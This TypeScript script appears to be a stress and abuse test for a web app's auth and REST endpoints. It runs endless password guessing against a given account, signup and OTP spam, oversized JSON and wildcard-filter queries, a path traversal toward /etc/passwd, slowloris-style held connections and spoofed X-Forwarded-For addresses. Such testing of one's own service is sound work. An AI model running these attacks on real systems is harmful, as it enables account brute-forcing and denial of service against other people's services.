// Attackers with a thousand addresses, until this process is ended: `node attackers.ts <url> <address of an account>`.
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { bookingRow, leadRow } from '../load/rows.ts'
import { seededDraw } from '../load/seeded-draw.ts'
import { inTurns, senderOf } from './victim.ts'

const [url = '', email = ''] = process.argv.slice(2)
const { publishableKey } = (await (await fetch(`${url}/config.json`)).json()) as { publishableKey: string }
const draw = seededDraw(5)
const someone = () => senderOf(Math.floor(draw.share() * 1000))

type Shot = { path: string; body?: string; headers?: Record<string, string> }
const json = (path: string, body: unknown): Shot => ({ path, body: JSON.stringify(body) })

/** One request of each kind, chosen at random. */
const shots: (() => Shot)[] = [
  () => json('/auth/v1/token?grant_type=password', { email, password: `guess ${draw.share()}` }),
  () =>
    json('/auth/v1/token?grant_type=password', {
      email: `${draw.name()}@mail.example`,
      password: 'wrong horse',
    }),
  () => json('/auth/v1/signup', { email: `${draw.name()}@mail.example`, password: 'correct horse' }),
  () => json('/auth/v1/otp', { email: `${draw.name()}@mail.example`, create_user: true }),
  () => json('/auth/v1/recover', { email }),
  () => json('/auth/v1/verify', { type: 'email', email, token: '123456' }),
  () => json('/auth/v1/token?grant_type=refresh_token', { refresh_token: draw.name() }),
  () =>
    json(
      '/rest/v1/bookings',
      Array.from({ length: 10 }, () => bookingRow(draw)),
    ),
  () =>
    json(
      '/rest/v1/leads',
      Array.from({ length: 30 }, () => leadRow(draw)),
    ),
  () => json('/rest/v1/leads', leadRow(draw, `victim+${draw.name()}@gmail.com`)),
  () => ({ path: '/rest/v1/leads', body: '['.repeat(900_000) }),
  () => ({ path: '/rest/v1/leads', body: `[${'"0123456789",'.repeat(60_000)}1]` }),
  () => ({
    path: `/rest/v1/refund_offices?or=(${Array.from({ length: 50 }, () => 'name.ilike.*a*b*c*d*').join(',')})&limit=1000`,
  }),
  () => ({ path: '/rest/v1/vat_guides?select=*&order=content&limit=1000' }),
  () => ({
    path: '/rest/v1/favorite_locations',
    headers: { Authorization: `Bearer ${'a'.repeat(900)}.b.c` },
  }),
  () => json('/functions/v1/get-refund-locations', { country: 'france', city: 'x'.repeat(10_000) }),
  () => json('/functions/v1/ai-concierge', { message: 'x'.repeat(5000) }),
  () => ({ path: '/france/paris?'.padEnd(8000, 'x') }),
  () => ({ path: '/%2e%2e/%2e%2e/etc/passwd' }),
]

/** Half-open, slow and silent connections, each from its own address, without a proxy. */
async function holdLines(from: string): Promise<void> {
  for (;;) {
    const { hostname, port } = new URL(url)
    const line = connect({ host: hostname, port: Number(port), localAddress: from })
    line.on('error', () => undefined)
    line.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ')
    await pause(2000)
    line.destroy()
  }
}
for (let n = 0; n < 400; n += 1) void holdLines(`127.0.1.${1 + (n % 20)}`)

const perSecond = Number(process.env.SIEGE_SHOTS_PER_SECOND ?? 60)
const atOnce = 24
await inTurns(Infinity, atOnce, async () => {
  const { path, body, headers } = draw.of(shots)()
  await fetch(url + path, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      apikey: publishableKey,
      'Content-Type': 'application/json',
      'X-Forwarded-For': someone(),
      ...headers,
    },
    ...(body === undefined ? {} : { body }),
  })
    .then((response) => response.arrayBuffer())
    .catch(() => undefined)
  await pause((1000 * atOnce) / perSecond)
})
